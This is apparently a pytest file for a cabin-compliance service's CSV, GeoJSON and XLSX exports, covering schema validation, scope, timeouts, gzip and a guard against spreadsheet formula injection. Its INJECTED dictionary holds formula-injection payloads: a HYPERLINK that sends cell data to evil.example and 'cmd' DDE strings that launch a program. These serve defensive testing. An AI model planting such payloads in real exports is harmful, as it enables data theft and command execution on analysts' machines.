"""The exports: the CSV validates with frictionless against the published Table Schema, the
GeoJSON is an RFC 7946 FeatureCollection, the XLSX opens with openpyxl and holds the same
rows; all three keep the caller's scope and the filters."""

from __future__ import annotations

import csv
import gzip
import io
import json
import tempfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from frictionless import Resource, Schema, validate
from sqlalchemy import text, update
from sqlalchemy.engine import Engine
from sqlalchemy.orm import Session

from service.auth.models import Operator
from service.cabins.models import Cabin
from service.cabins.published import SCHEMA_DIR
from tests.auth.factories import bearer, make_key
from tests.compliance.conftest import World

TABLESCHEMA = SCHEMA_DIR / "compliance-export.tableschema.json"


def test_csv_validates_against_the_published_table_schema(
    client, world: World, tmp_path: Path
) -> None:
    r = client.get("/v1/compliance/export.csv", headers=world.keys["national"])
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    path = tmp_path / "export.csv"
    path.write_bytes(r.content)
    schema = Schema.from_descriptor(json.loads(TABLESCHEMA.read_text()))
    report = validate(Resource(path=path.name, basepath=str(tmp_path), schema=schema))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert len(rows) == 4
    a84 = next(row for row in rows if row["id"] == str(world.cabins["a84"].id))
    assert a84["failing_rules"] == world.codes[2]
    assert a84["failing_since"] == "2026-03-01T00:00:00Z"
    assert json.loads(a84["failing_evidence"]) == {
        world.codes[2]: {"reason": "too far", "distance_m": 1234}
    }


def test_csv_keeps_scope_and_filters(client, world: World) -> None:
    r = client.get(
        "/v1/compliance/export.csv", params={"outcome": "fail"}, headers=world.keys["ars_11"]
    )
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [row["id"] for row in rows] == [str(world.cabins["b11"].id)]
    r = client.get("/v1/compliance/export.csv", headers=world.keys["operator_a"])
    ids = {row["id"] for row in csv.DictReader(io.StringIO(r.text))}
    assert ids == {str(world.cabins[n].id) for n in ("a84", "a11")}


def assert_rfc7946(collection: dict[str, Any]) -> None:
    assert collection["type"] == "FeatureCollection"
    assert "crs" not in collection  # RFC 7946 §4: WGS 84 only, no crs member
    assert isinstance(collection["features"], list)
    for feature in collection["features"]:
        assert feature["type"] == "Feature"
        assert "crs" not in feature
        assert isinstance(feature["id"], (str, int, float))
        assert feature["properties"] is None or isinstance(feature["properties"], dict)
        geometry = feature["geometry"]
        assert geometry["type"] == "Point"
        position = geometry["coordinates"]
        assert len(position) in (2, 3) and all(isinstance(v, (int, float)) for v in position)
        lon, lat = position[:2]
        assert -180 <= lon <= 180 and -90 <= lat <= 90


def test_geojson_is_an_rfc7946_feature_collection(client, world: World) -> None:
    r = client.get(
        "/v1/compliance/export.geojson", params={"region": "84"}, headers=world.keys["national"]
    )
    assert r.status_code == 200
    assert r.headers["content-type"] == "application/geo+json"
    collection = r.json()
    assert_rfc7946(collection)
    by_id = {f["id"]: f for f in collection["features"]}
    assert set(by_id) == {str(world.cabins[n].id) for n in ("a84", "b84")}
    a84 = by_id[str(world.cabins["a84"].id)]
    lon, lat = a84["geometry"]["coordinates"]
    assert abs(lon - 4.8354) < 0.01 and abs(lat - 45.7677) < 0.01  # Lyon, lon first
    assert a84["properties"]["failing"][0]["evidence"]["distance_m"] == 1234


def test_empty_geojson_is_still_valid(client, world: World) -> None:
    r = client.get(
        "/v1/compliance/export.geojson", params={"status": "draft"}, headers=world.keys["national"]
    )
    assert r.json() == {"type": "FeatureCollection", "features": []}


def test_xlsx_opens_with_openpyxl_and_has_the_csv_rows(client, world: World) -> None:
    csv_rows = list(
        csv.reader(
            io.StringIO(
                client.get("/v1/compliance/export.csv", headers=world.keys["national"]).text
            )
        )
    )
    r = client.get("/v1/compliance/export.xlsx", headers=world.keys["national"])
    assert r.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(r.content), read_only=True)
    sheet = workbook["compliance"]
    xlsx_rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert xlsx_rows[0] == csv_rows[0]
    assert len(xlsx_rows) == len(csv_rows) == 5
    header = csv_rows[0]
    for got, expected in zip(xlsx_rows[1:], csv_rows[1:], strict=True):
        record = dict(zip(header, got, strict=True))
        wanted = dict(zip(header, expected, strict=True))
        for name in ("id", "reference", "operator_name", "compliance_status", "failing_rules"):
            assert (record[name] or "") == wanted[name]
        assert abs(record["lon"] - float(wanted["lon"])) < 1e-9
        assert record["failing_since"] is None or (
            record["failing_since"].strftime("%Y-%m-%dT%H:%M:%SZ") == wanted["failing_since"]
        )


def test_the_table_schema_check_catches_a_bad_row(client, world: World, tmp_path: Path) -> None:
    text = client.get("/v1/compliance/export.csv", headers=world.keys["national"]).text
    path = tmp_path / "bad.csv"
    path.write_text(text.replace(",active,", ",live,", 1))
    schema = Schema.from_descriptor(json.loads(TABLESCHEMA.read_text()))
    report = validate(Resource(path=path.name, basepath=str(tmp_path), schema=schema))
    assert not report.valid
    assert [e[1] for e in report.flatten(["rowNumber", "fieldName"])] == ["status"]


@pytest.mark.parametrize("extension", ["csv", "geojson", "xlsx"])
def test_an_export_over_the_statement_timeout_is_a_503_not_a_cut_200(
    client, db: Session, engine: Engine, extension: str
) -> None:
    """The query runs before the first byte is sent: held up past the timeout (here by a
    lock another transaction keeps on the compliance table), the export is a 503 problem."""
    key = bearer(make_key(db, "regulator", scope="national"))
    db.execute(text("SET LOCAL statement_timeout = '300ms'"))
    spooled = set(Path(tempfile.gettempdir()).glob("openpyxl.*"))
    with engine.connect() as other:
        other.execute(text("LOCK TABLE cabin_compliance IN ACCESS EXCLUSIVE MODE"))
        try:
            r = client.get(f"/v1/compliance/export.{extension}", headers=key)
        finally:
            other.rollback()
    assert r.status_code == 503, r.text[:200]
    assert r.headers["content-type"] == "application/problem+json"
    assert "longer than" in r.json()["detail"]
    # The XLSX sheet spooled so far is removed, not left on disk until the server stops.
    assert set(Path(tempfile.gettempdir()).glob("openpyxl.*")) == spooled


def test_xlsx_keeps_text_as_text_and_survives_control_characters(
    client, db: Session, world: World
) -> None:
    """An operator's venue name is data: one beginning with `=` stays text (not a formula that
    runs in the regulator's spreadsheet), and a control character the workbook cannot hold
    does not make the whole export fail (it was a 500 for every regulator)."""
    cabin = world.cabins["a84"]
    cabin.venue_name = '=HYPERLINK("http://example.org")\x0b Pharmacie'
    world.cabins["b84"].venue_name = "#N/A"
    db.flush()
    r = client.get("/v1/compliance/export.xlsx", headers=world.keys["national"])
    assert r.status_code == 200, r.text[:300]
    sheet = openpyxl.load_workbook(io.BytesIO(r.content))["compliance"]
    header = [c.value for c in sheet[1]]
    column = header.index("venue_name") + 1
    cells = {row[0].value: row[column - 1] for row in sheet.iter_rows(min_row=2)}
    name = cells[str(cabin.id)]
    assert name.data_type == "s"
    assert name.value == '=HYPERLINK("http://example.org")\ufffd Pharmacie'
    assert cells[str(world.cabins["b84"].id)].data_type == "s"
    assert cells[str(world.cabins["b84"].id)].value == "#N/A"
    csv_rows = {
        row["id"]: row
        for row in csv.DictReader(
            io.StringIO(
                client.get("/v1/compliance/export.csv", headers=world.keys["national"]).text
            )
        )
    }
    # the CSV keeps the control character; its formula guard is tested below
    assert csv_rows[str(cabin.id)]["venue_name"] == "'" + cabin.venue_name


def test_geojson_properties_are_the_csv_columns(client, world: World) -> None:
    """A regulator mapping the GeoJSON sees what the CSV gives: the venue's name, the
    operator's reference, the ARS declaration and when the cabin was evaluated (they were
    missing), the failing verdicts as one array instead of the three flattened columns."""
    headers = world.keys["national"]
    rows = list(
        csv.DictReader(io.StringIO(client.get("/v1/compliance/export.csv", headers=headers).text))
    )
    features = client.get("/v1/compliance/export.geojson", headers=headers).json()["features"]
    flattened = {"id", "lon", "lat", "failing_rules", "failing_since", "failing_evidence"}
    for row, feature in zip(rows, features, strict=True):
        properties = feature["properties"]
        assert feature["id"] == row["id"]
        assert set(properties) == set(row) - flattened | {"failing"}
        for name in ("venue_name", "operator_reference", "ars_declaration_date"):
            assert (properties[name] or "") == row[name], name
        assert ";".join(v["rule"] for v in properties["failing"]) == row["failing_rules"]


def test_the_csv_and_geojson_exports_are_gzipped_as_they_stream(client, world: World) -> None:
    """A national export is tens of MB: compressed as it streams for a client that accepts it,
    the same rows once decoded. The XLSX is a zip already."""
    headers = world.keys["national"]
    for extension in ("csv", "geojson"):
        url = f"/v1/compliance/export.{extension}"
        gzipped = client.get(url, headers={**headers, "Accept-Encoding": "gzip"})
        plain = client.get(url, headers={**headers, "Accept-Encoding": "identity"})
        assert gzipped.headers["content-encoding"] == "gzip", extension
        assert "content-encoding" not in plain.headers
        assert gzipped.content == plain.content  # httpx decodes it
    xlsx = client.get("/v1/compliance/export.xlsx", headers={**headers, "Accept-Encoding": "gzip"})
    assert "content-encoding" not in xlsx.headers


@pytest.mark.parametrize(
    "url",
    [
        "/v1/compliance/summary?by=rule",
        "/v1/compliance/coverage?by=departement&underserved_limit=50",
    ],
)
def test_the_summaries_are_gzipped_as_every_json_answer(client, world: World, url: str) -> None:
    """The summaries and the coverage were sent plain to a client asking for gzip (only the
    exports and the open endpoints were compressed): the body as sent decodes to the plain
    answer."""
    headers = world.keys["national"]
    plain = client.get(url, headers={**headers, "Accept-Encoding": "identity"})
    assert plain.status_code == 200, plain.text[:300]
    assert len(plain.content) > 1024
    with client.stream("GET", url, headers={**headers, "Accept-Encoding": "gzip"}) as response:
        assert response.headers["content-encoding"] == "gzip"
        assert "Accept-Encoding" in response.headers["vary"]
        sent = b"".join(response.iter_raw())
    assert len(sent) < len(plain.content)
    assert json.loads(gzip.decompress(sent)) == plain.json()


def test_csv_coordinates_are_plain_decimals_near_the_meridian(
    client, db: Session, world: World
) -> None:
    """The Greenwich meridian crosses France: a cabin 3 m east of it was written lon 4e-05
    (Python's float text), where the Table Schema's number is a plain decimal and the API and
    the GeoJSON say 0.00004."""
    cabin = world.cabins["a84"]
    cabin.geom = "SRID=4326;POINT(0.00004 -0.0000012)"  # type: ignore[assignment]
    db.flush()
    r = client.get("/v1/compliance/export.csv", headers=world.keys["national"])
    row = next(row for row in csv.DictReader(io.StringIO(r.text)) if row["id"] == str(cabin.id))
    assert (row["lon"], row["lat"]) == ("0.00004", "-0.0000012")


INJECTED = {
    "venue_name": '=HYPERLINK("http://evil.example/?"&A1,"Pharmacie")',
    "operator_reference": "+33-SHOP-1",
    "ars_declaration_reference": "-2+3+cmd|' /C calc'!A0",
    "operator_name": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _inject(db: Session, world: World) -> Cabin:
    cabin = world.cabins["a84"]
    cabin.venue_name = INJECTED["venue_name"]
    cabin.operator_reference = INJECTED["operator_reference"]
    cabin.ars_declaration_reference = INJECTED["ars_declaration_reference"]
    world.cabins["b84"].venue_name = "\tPharmacie"
    world.cabins["a11"].venue_name = "\rPharmacie"
    db.execute(
        update(Operator)
        .where(Operator.id == world.operator_a)
        .values(name=INJECTED["operator_name"])
    )
    db.flush()
    return cabin


def test_csv_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
    client, db: Session, world: World, tmp_path: Path
) -> None:
    """Operator-typed text beginning with = + - @ tab or CR is run as a formula when an analyst
    opens the CSV in Excel or LibreOffice: such a cell gets a leading apostrophe (OWASP's CSV
    injection guard), in the free-text columns only; numbers (a longitude west of Greenwich),
    dates and codes are written as they are, and the file still validates."""
    cabin = _inject(db, world)
    cabin.geom = "SRID=4326;POINT(-1.5536 47.2184)"  # type: ignore[assignment]  # Nantes
    db.flush()
    r = client.get("/v1/compliance/export.csv", headers=world.keys["national"])
    assert r.status_code == 200
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(r.text))}
    row = rows[str(cabin.id)]
    for name, value in INJECTED.items():
        assert row[name] == "'" + value, name
    assert row["lon"] == "-1.5536"
    assert rows[str(world.cabins["b84"].id)]["venue_name"] == "'\tPharmacie"
    assert rows[str(world.cabins["a11"].id)]["venue_name"] == "'\rPharmacie"
    assert rows[str(world.cabins["b11"].id)]["venue_name"] == world.cabins["b11"].venue_name
    for other in rows.values():
        assert not other["reference"].startswith("'")
        assert not (other["failing_evidence"] or "{").startswith("'")
    path = tmp_path / "export.csv"
    path.write_bytes(r.content)
    schema = Schema.from_descriptor(json.loads(TABLESCHEMA.read_text()))
    report = validate(Resource(path=path.name, basepath=str(tmp_path), schema=schema))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


def test_xlsx_keeps_formula_like_text_as_it_was_typed(client, db: Session, world: World) -> None:
    """The workbook needs no apostrophe: its cells are typed, and text stays text."""
    cabin = _inject(db, world)
    r = client.get("/v1/compliance/export.xlsx", headers=world.keys["national"])
    sheet = openpyxl.load_workbook(io.BytesIO(r.content))["compliance"]
    header = [c.value for c in sheet[1]]
    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == str(cabin.id))
    for name, value in INJECTED.items():
        cell = row[header.index(name)]
        assert (cell.data_type, cell.value) == ("s", value), name
